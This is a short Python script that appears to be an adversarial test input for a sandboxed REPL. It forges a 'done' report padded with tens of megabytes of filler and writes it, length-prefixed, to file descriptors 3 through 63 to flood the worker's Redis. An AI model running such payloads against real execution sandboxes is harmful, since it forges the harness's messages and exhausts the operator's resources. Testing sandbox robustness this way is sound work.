"""A report on the block that the REPL did not write, with an error and a draft that fill the worker's Redis."""

import json

report = {
    "op": "done",
    "cell": 1,
    "output": {"head": "", "tail": "", "omitted": 0},
    "error": "e" * 10_000_000,
    "final": None,
    "partial": "p" * 10_000_000,
    "names": ["n" * 100_000] * 100,
}
data = json.dumps(report).encode()
for fd in range(3, 64):
    if attempt(lambda: os.write(fd, len(data).to_bytes(4, "big"))):
        while data and (sent := attempt(lambda: os.write(fd, data))):
            data = data[sent:]
time.sleep(60)
